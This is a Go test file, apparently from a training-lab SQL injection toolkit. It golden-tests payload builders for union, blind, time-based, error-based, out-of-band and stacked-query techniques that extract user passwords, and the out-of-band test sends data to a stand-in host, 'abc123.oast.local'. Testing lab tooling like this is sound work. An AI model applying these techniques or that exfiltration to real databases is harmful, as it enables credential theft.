@@ -0,0 +1,138 @@
+package sqli
+
+import (
+	"flag"
+	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/payload"
+)
+
+// update rewrites the golden files with the current output: go test ./sqli -update
+var update = flag.Bool("update", false, "rewrite the golden files in testdata")
+
+// TestPayloadGolden renders the builders and every technique's payload through every
+// boundary for each dialect and compares them with testdata/<dialect>.golden.
+func TestPayloadGolden(t *testing.T) {
+	for _, db := range constant.Databases {
+		t.Run(db.Name, func(t *testing.T) {
+			got := renderDialect(db)
+			path := filepath.Join("testdata", strings.ToLower(db.Name)+".golden")
+			if *update {
+				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
+					t.Fatal(err)
+				}
+				return
+			}
+
+			want, err := os.ReadFile(path)
+			if err != nil {
+				t.Fatalf("missing golden file, run with -update: %s", err)
+			}
+			gotLines, wantLines := strings.Split(got, "\n"), strings.Split(string(want), "\n")
+			for i := range max(len(gotLines), len(wantLines)) {
+				var gotLine, wantLine string
+				if i < len(gotLines) {
+					gotLine = gotLines[i]
+				}
+				if i < len(wantLines) {
+					wantLine = wantLines[i]
+				}
+				if gotLine != wantLine {
+					t.Fatalf("%s:%d differs\n got: %s\nwant: %s", path, i+1, gotLine, wantLine)
+				}
+			}
+		})
+	}
+}
+
+// renderDialect lists the builders' output, then the payload every technique sends
+// through every boundary the dialect understands, one "name: payload" line each.
+// Techniques that refuse a boundary list the reason instead.
+func renderDialect(db constant.Database) string {
+	var out strings.Builder
+	line := func(name string, value string) {
+		fmt.Fprintf(&out, "%s: %s\n", name, value)
+	}
+
+	users := payload.NewSelect(db, "username", "password").From("users").Where("role='admin'")
+	password := payload.NewSelect(db, "password").From("users").Where("username='administrator'")
+	line("select", users.String())
+	line("select without table", payload.NewSelect(db, db.VersionFunction).String())
+	line("select row", users.Row(3).String())
+	line("select row ordered", users.OrderBy("username DESC").Row(0).String())
+	line("count", users.Count().String())
+	if db.Supports(constant.CAPABILITY_AGGREGATION) {
+		line("aggregate", password.Aggregate(constant.ROW_SEPARATOR).String())
+	}
+	line("concat", db.Concat("username", db.Quote(constant.COLUMN_SEPARATOR), "password"))
+	line("union", payload.NewUnion(db, 3).String())
+	line("union reflected", payload.NewUnion(db, 3).Reflect(2).Select(db.CastToString("id")).From("users").Where("id>1").String())
+
+	value := password.Row(0).Subquery()
+	condition := fmt.Sprintf(db.LengthFunction, value) + ">8"
+	columns := ColumnMap{Columns: []ColumnProfile{{Index: 0}, {Index: 1, String: true, Reflected: true}}}
+	techniques := []struct {
+		name       string
+		capability constant.Capability
+		render     func(boundary Boundary) (string, error)
+	}{
+		{TECHNIQUE_UNION, "", func(boundary Boundary) (string, error) {
+			extractor, err := NewUnionExtractor(nil, InjectionPoint{}, boundary, nil, db, columns)
+			if err != nil {
+				return "", err
+			}
+			return extractor.payload(payload.NewUnion(db, columns.Count()).Reflect(1).Select("password").From("users")), nil
+		}},
+		{TECHNIQUE_BOOLEAN, constant.CAPABILITY_BLIND, func(boundary Boundary) (string, error) {
+			return (&BooleanQuestioner{boundary: boundary}).payload(condition), nil
+		}},
+		{TECHNIQUE_TIME, constant.CAPABILITY_TIME_DELAY, func(boundary Boundary) (string, error) {
+			return (&TimeBasedQuestioner{boundary: boundary, db: db}).payload(condition, constant.TIME_DELAY_SECONDS), nil
+		}},
+		{TECHNIQUE_ERROR, constant.CAPABILITY_ERROR_LEAK, func(boundary Boundary) (string, error) {
+			return (&ErrorExtractor{boundary: boundary, db: db}).payload(value), nil
+		}},
+		{TECHNIQUE_CONDITIONAL_ERROR, constant.CAPABILITY_CONDITIONAL_ERROR, func(boundary Boundary) (string, error) {
+			return (&ConditionalErrorQuestioner{boundary: boundary, db: db}).payload(condition), nil
+		}},
+		{TECHNIQUE_OOB, constant.CAPABILITY_OOB, func(boundary Boundary) (string, error) {
+			return (&OOBExtractor{boundary: boundary, db: db}).payload(value, "abc123.oast.local"), nil
+		}},
+		{"stacked", constant.CAPABILITY_STACKED_QUERIES, func(boundary Boundary) (string, error) {
+			return (&StackedExecutor{boundary: boundary, db: db}).payload("SELECT " + value), nil
+		}},
+	}
+	for _, boundary := range dialectBoundaries(db) {
+		for _, technique := range techniques {
+			if technique.capability != "" && !db.Supports(technique.capability) {
+				continue
+			}
+			rendered, err := technique.render(boundary)
+			if err != nil {
+				rendered = "refused, " + err.Error()
+			}
+			line(fmt.Sprintf("%s %s %q", technique.name, boundary.Context, boundary.Suffix), rendered)
+		}
+	}
+	return out.String()
+}
+
+// dialectBoundaries lists the boundary candidates FindBoundary tries with AND, leaving out
+// comment styles the dialect does not understand.
+func dialectBoundaries(db constant.Database) []Boundary {
+	var boundaries []Boundary
+	for _, context := range constant.InjectionContexts {
+		for _, candidate := range boundaryCandidates(context) {
+			if candidate.Operator == "AND" && (candidate.Comment == "" || slices.Contains(db.Comment, candidate.Comment)) {
+				boundaries = append(boundaries, candidate)
+			}
+		}
+	}
+	return boundaries
+}